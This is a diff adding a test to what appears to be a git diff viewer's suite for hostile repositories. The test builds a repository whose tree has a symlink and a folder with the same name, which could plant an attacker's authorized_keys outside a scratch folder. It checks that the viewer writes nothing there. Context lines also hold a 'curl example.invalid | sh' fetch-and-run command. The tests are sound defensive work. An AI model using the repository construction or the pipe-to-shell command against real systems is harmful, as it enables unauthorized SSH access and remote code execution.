@@ -7,6 +7,9 @@
 #include "HostileRepos.h"
 #include "QtPrinters.h"
 
+#include <QDir>
+#include <QFile>
+
 #include <gtest/gtest.h>
 
 namespace {
@@ -36,6 +39,41 @@ TEST(ViewerHostileRepo, LoaderRunsNoRepositoryProgramAndStillShowsTheDiff)
         if (c.kind != HostileKind::IndexHook && c.kind != HostileKind::PromisorFetch)
             EXPECT_TRUE(diff.contains(QStringLiteral("+curl example.invalid | sh")));
     }
+}
+
+// HEAD holds a symbolic link `x` to a folder outside and a folder `x/` of the same name (git fsck
+// calls it a duplicate entry; clone and fetch take it). Recreating `x` as a link and then writing
+// `x/authorized_keys` would write outside the scratch folder.
+TEST(ViewerHostileRepo, TreeWithALinkAndAFolderOfOneNameWritesNothingOutside)
+{
+    QTemporaryDir outside;
+    const QString decoy = outside.path() + QStringLiteral("/authorized_keys");
+    {
+        QFile f(decoy);
+        ASSERT_TRUE(f.open(QIODevice::WriteOnly));
+        f.write("ssh-ed25519 AAAA owner\n");
+    }
+    TestRepo repo;
+    repo.init();
+    const QStringList blobIn = {QStringLiteral("hash-object"), QStringLiteral("-w"),
+                                QStringLiteral("--stdin")};
+    const QByteArray key = repo.plumb(blobIn, "ssh-ed25519 AAAA attacker\n");
+    const QByteArray link = repo.plumb(blobIn, QFile::encodeName(outside.path()));
+    const QByteArray sub =
+        repo.plumb({QStringLiteral("mktree")}, "100644 blob " + key + "\tauthorized_keys\n");
+    const QByteArray tree =
+        repo.plumb({QStringLiteral("mktree")}, "120000 blob " + link + "\tx\n040000 tree " + sub + "\tx\n");
+    const QByteArray commit = repo.plumb({QStringLiteral("commit-tree"), QString::fromLatin1(tree),
+                                          QStringLiteral("-m"), QStringLiteral("c")});
+    repo.plumb({QStringLiteral("update-ref"), QStringLiteral("HEAD"), QString::fromLatin1(commit)});
+
+    const QString diff = loadGitDiff(repo.path(QStringLiteral("x")));
+    QFile f(decoy);
+    ASSERT_TRUE(f.open(QIODevice::ReadOnly));
+    EXPECT_EQ(f.readAll(), QByteArray("ssh-ed25519 AAAA owner\n"));
+    EXPECT_EQ(QDir(outside.path()).entryList(QDir::AllEntries | QDir::NoDotAndDotDot | QDir::Hidden),
+              QStringList{QStringLiteral("authorized_keys")});
+    EXPECT_EQ(diff, nestedTreeNote(QStringLiteral("x")));
 }
 
 } // namespace
